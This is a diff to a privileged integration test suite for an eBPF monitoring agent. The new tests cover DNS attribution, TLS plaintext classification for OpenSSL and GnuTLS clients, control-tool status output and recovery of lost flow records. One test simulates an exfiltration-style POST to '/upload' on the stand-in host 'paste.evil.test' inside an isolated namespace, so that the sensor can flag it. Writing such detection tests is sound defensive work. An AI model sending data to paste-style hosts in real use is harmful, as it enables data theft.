@@ -13,6 +13,7 @@ Exit codes: 0 pass, 1 fail, 77 skipped (not root) unless SLUICE_REQUIRE_PRIVILEG
 """
 
 import argparse
+import json
 import os
 import shutil
 import signal
@@ -23,13 +24,14 @@ import time
 import unittest
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from harness import run, cgroup2_root, sluice_programs, Sluiced  # noqa: E402
+from harness import (run, cgroup2_root, sluice_programs, Sluiced,  # noqa: E402
+                     remove_cgroup_tree, run_privileged_suite)
 
 ARGS = None
-SKIP = 77
 
 V4 = "192.0.2.1"     # TEST-NET-1, only ever on the namespace's loopback
 V6 = "2001:db8::1"   # documentation prefix, same
+DNS = "192.0.2.53"   # dnsmasq, in the namespace
 
 # A TCP server that reads until EOF, answers with `reply` bytes and closes; prints what it got.
 TCP_SERVER = r"""
@@ -122,6 +124,7 @@ class Lab:
         ns = ["ip", "netns", "exec", self.netns]
         run(ns + ["ip", "link", "set", "lo", "up"])
         run(ns + ["ip", "addr", "add", V4 + "/32", "dev", "lo"])
+        run(ns + ["ip", "addr", "add", DNS + "/32", "dev", "lo"])
         run(ns + ["ip", "-6", "addr", "add", V6 + "/128", "dev", "lo", "nodad"])
         os.makedirs(self.cgroup)
         os.makedirs(self.cache)
@@ -134,21 +137,7 @@ class Lab:
             if p.poll() is None:
                 p.kill()
                 p.wait()
-        for dirpath, _, _ in os.walk(self.cgroup, topdown=False):
-            try:
-                with open(os.path.join(dirpath, "cgroup.procs")) as f:
-                    for pid in f.read().split():
-                        os.kill(int(pid), signal.SIGKILL)
-            except OSError:
-                pass
-            for _ in range(50):
-                try:
-                    os.rmdir(dirpath)
-                    break
-                except FileNotFoundError:
-                    break
-                except OSError:
-                    time.sleep(0.05)
+        remove_cgroup_tree(self.cgroup)
         run(["ip", "netns", "del", self.netns], check=False)
         shutil.rmtree(self.tmp, ignore_errors=True)
 
@@ -328,6 +317,132 @@ class SensorTest(unittest.TestCase):
         t = self.file_reads(moved_seeded, "read")
         self.assertEqual(t["bytes_read"], 100000, t)
 
+    def test_dns_names_reach_the_following_connect(self):
+        dnsmasq = subprocess.Popen(
+            ["ip", "netns", "exec", self.lab.netns, "dnsmasq", "--no-daemon", "--no-resolv",
+             "--no-hosts", "--user=root", "--pid-file=", "--bind-interfaces",
+             "--listen-address=" + DNS, "--port=53",
+             "--host-record=acme.my.salesforce.com," + V4,
+             "--cname=login.salesforce.com,acme.my.salesforce.com"],
+            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+        self.lab.procs.append(dnsmasq)
+        server = self.lab.start_in([sys.executable, "-c", TCP_SERVER, V4, "9104", "10"])
+        # Resolve through the real resolver protocol (dig), then connect to the answer.
+        deadline = time.time() + 10
+        answer = ""
+        while time.time() < deadline and not answer:
+            _, answer = self.lab.run_in(["dig", "+short", "+tries=1", "+time=1", "@" + DNS,
+                                         "login.salesforce.com"])
+            answer = answer.splitlines()[-1] if answer else ""
+            if not answer:
+                time.sleep(0.2)
+        self.assertEqual(answer, V4, "dnsmasq answered: %r" % answer)
+        pid, out = self.lab.run_in([sys.executable, "-c", TCP_CLIENT, answer, "9104", "5"])
+        self.assertEqual(out, "GOT 10")
+        server.wait(timeout=10)
+        dns = self.event(lambda e: e["type"] == "dns" and "login.salesforce.com" in e["questions"],
+                         "DNS answer")
+        self.assertIn({"name": "login.salesforce.com", "type": 5, "ttl": dns["answers"][0]["ttl"],
+                       "cname": "acme.my.salesforce.com"}, dns["answers"])
+        self.assertTrue(any(a.get("addr") == V4 for a in dns["answers"]), dns)
+        flow = self.event(lambda e: e["type"] == "flow" and e["kind"] == "connected"
+                          and e["pid"] == pid, "connected flow")
+        self.assertIn("acme.my.salesforce.com", flow["names"])
+        self.assertIn("login.salesforce.com", flow["names"])
+
+    def tls_server(self, port):
+        cert = os.path.join(self.lab.tmp, "cert.pem")
+        key = os.path.join(self.lab.tmp, "key.pem")
+        if not os.path.exists(cert):
+            run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
+                 "-subj", "/CN=crm.test", "-keyout", key, "-out", cert])
+        # Outside the watched cgroup: only the clients are under test.
+        p = subprocess.Popen(["ip", "netns", "exec", self.lab.netns, "openssl", "s_server",
+                              "-accept", "%s:%d" % (V4, port), "-cert", cert, "-key", key,
+                              "-www", "-quiet"],
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        self.lab.procs.append(p)
+        deadline = time.time() + 10
+        while time.time() < deadline:
+            r = run(["ip", "netns", "exec", self.lab.netns, sys.executable, "-c",
+                     "import socket; socket.create_connection(('%s', %d), 1)" % (V4, port)],
+                    check=False)
+            if r.returncode == 0:
+                return p
+            time.sleep(0.1)
+        raise RuntimeError("openssl s_server did not start")
+
+    def assert_http_over_tls(self, pid, library, method, path, port):
+        e = self.event(lambda e: e["type"] == "tls" and e["pid"] == pid
+                       and e["direction"] == "write", "TLS write of pid %d" % pid)
+        self.assertEqual(e["library"], library)
+        self.assertEqual(e["protocol"], "http1-request", e)
+        self.assertEqual((e["http"]["method"], e["http"]["path"]), (method, path), e)
+        self.assertEqual((e.get("daddr"), e.get("dport")), (V4, port), e)
+        self.assertGreater(e["cookie"], 0)
+        self.assertNotIn("data", e)  # classifications only, never the bytes
+        return e
+
+    # TLS uprobes are attached per watched process when the agent handles its exec or fork
+    # record (DESIGN §4: never system-wide), which takes tens of milliseconds on this kernel; they
+    # survive exec. The clients below therefore run as the workload's long-lived process would:
+    # a shell that is already under watch when it execs the TLS client. (A process that reaches
+    # its first TLS call within that window of its birth is not covered: see the issue note.)
+    def in_watched_shell(self, command):
+        return ["/bin/sh", "-c", "sleep 0.5; exec " + command]
+
+    def test_tls_plaintext_openssl_curl(self):
+        self.tls_server(9443)
+        pid, _ = self.lab.run_in(self.in_watched_shell(
+            "curl -sk -o /dev/null --max-time 10 -H 'Host: acme.my.salesforce.com' "
+            "'https://%s:9443/services/data/v59.0/query?q=SELECT'" % V4))
+        e = self.assert_http_over_tls(pid, "openssl", "GET", "/services/data/v59.0/query", 9443)
+        self.assertTrue(e["http"]["has_query"])
+        self.assertEqual(e["http"]["host"], "acme.my.salesforce.com")
+
+    def test_tls_plaintext_openssl_python_write_ex(self):
+        self.tls_server(9444)
+        code = ("import socket, ssl, time; c = ssl._create_unverified_context(); time.sleep(0.5); "
+                "s = c.wrap_socket(socket.create_connection(('%s', 9444), 5)); "
+                "s.sendall(b'POST /upload HTTP/1.1\\r\\nHost: paste.evil.test\\r\\n"
+                "Content-Length: 2\\r\\n\\r\\nhi'); s.close()" % V4)
+        pid, _ = self.lab.run_in([sys.executable, "-c", code])
+        e = self.assert_http_over_tls(pid, "openssl", "POST", "/upload", 9444)
+        self.assertEqual(e["http"]["host"], "paste.evil.test")
+
+    def test_tls_plaintext_gnutls(self):
+        self.tls_server(9445)
+        request = os.path.join(self.lab.tmp, "request.txt")
+        with open(request, "w") as f:
+            f.write("GET /export/records HTTP/1.1\r\nHost: vectors.internal\r\n\r\n")
+        # gnutls-cli sends stdin, then exits when the server closes after its answer.
+        pid, _ = self.lab.run_in(self.in_watched_shell(
+            "gnutls-cli --insecure --logfile=/dev/null -p 9445 %s < %s > /dev/null 2>&1"
+            % (V4, request)))
+        self.assert_http_over_tls(pid, "gnutls", "GET", "/export/records", 9445)
+
+    def test_sluicectl_status_and_events_through_the_agent(self):
+        pid, _ = self.lab.run_in(["/bin/true"], netns=False)
+        self.event(lambda e: e["type"] == "exec" and e["pid"] == pid, "exec of true")
+        ctl = [ARGS.sluicectl, "--socket", self.agent.api_socket]
+        st = json.loads(run(ctl + ["status", "--json"]).stdout)
+        self.assertEqual(st["mode"], "monitor")
+        probes = {p["name"]: p for p in st["probes"]}
+        self.assertTrue(probes["sluice_connect4"]["attached"])
+        # The feature probe's choice is visible: fentry/LSM are refused here, so the syscall
+        # tracepoints stand in for them.
+        self.assertTrue(probes["sluice_enter_openat"]["fallback_used"])
+        self.assertEqual(probes["sluice_enter_openat"]["preferred_hook"], "lsm/file_open")
+        types = {t["type"]: t for t in st["event_types"]}
+        self.assertGreater(int(types["exec"]["received"]), 0)
+        self.assertIn("ring_full", types["exec"])
+        human = run(ctl + ["status"]).stdout
+        self.assertIn("sluice_connect4", human)
+        lines = run(ctl + ["events", "--type", "exec"]).stdout.splitlines()
+        execs = [json.loads(l) for l in lines]
+        self.assertTrue(any(e["pid"] == pid for e in execs), lines[-5:])
+        self.assertTrue(all(e["type"] == "exec" for e in execs))
+
     def test_unwatched_process_reading_a_sensitive_file_is_not_tracked(self):
         path = os.path.join(self.lab.cache, "kv.bin")
         p = subprocess.Popen(["/bin/cat", path], stdout=subprocess.DEVNULL)
@@ -348,27 +463,36 @@ class SensorTest(unittest.TestCase):
         self.assertEqual(t["bytes_read"], 100000, t)
 
 
+class LostRecordsTest(unittest.TestCase):
+    """Totals live in kernel maps, not in ring records: with every flow record discarded (as a
+    full ring would), the reaper still reports each closed flow with exact totals."""
+
+    def test_flow_totals_survive_lost_records(self):
+        lab = Lab()
+        self.addCleanup(lab.down)
+        lab.up()
+        agent = Sluiced(ARGS.sluiced, lab.tmp, rules_for(lab), "monitor", events=True,
+                        extra=["--test-drop-flow-records"])
+        self.addCleanup(agent.stop)
+        server = lab.start_in([sys.executable, "-c", TCP_SERVER, V4, "9201", "3333"])
+        pid, out = lab.run_in([sys.executable, "-c", TCP_CLIENT, V4, "9201", "222222"])
+        self.assertEqual(out, "GOT 3333")
+        server.wait(timeout=10)
+        e = agent.wait_event(lambda e: e["type"] == "flow" and e["pid"] == pid, 5.0)
+        self.assertIsNotNone(e, agent.log()[-2000:])
+        self.assertEqual(e["kind"], "closed")  # the open record was dropped too
+        self.assertTrue(e.get("recovered"), e)
+        self.assertEqual((e["bytes_out"], e["bytes_in"]), (222222, 3333), e)
+        self.assertEqual(agent.stop(), 0)
+
+
 def main():
     global ARGS
     p = argparse.ArgumentParser()
     p.add_argument("--sluiced", required=True)
+    p.add_argument("--sluicectl", required=True)
     ARGS, rest = p.parse_known_args()
-    required = os.environ.get("SLUICE_REQUIRE_PRIVILEGED") == "1"
-    why = None
-    if os.geteuid() != 0:
-        why = "not root"
-    elif cgroup2_root() is None:
-        why = "no cgroup v2 mount"
-    elif shutil.which("bpftool") is None:
-        why = "bpftool not installed"
-    if why:
-        print("privileged test cannot run: %s" % why)
-        return 1 if required else SKIP
-    if sluice_programs():
-        print("sluice programs are already attached on this host (another sluiced running?)")
-        return 1
-    prog = unittest.main(argv=[sys.argv[0]] + rest, exit=False, verbosity=2)
-    return 0 if prog.result.wasSuccessful() else 1
+    return run_privileged_suite(rest)
 
 
 if __name__ == "__main__":
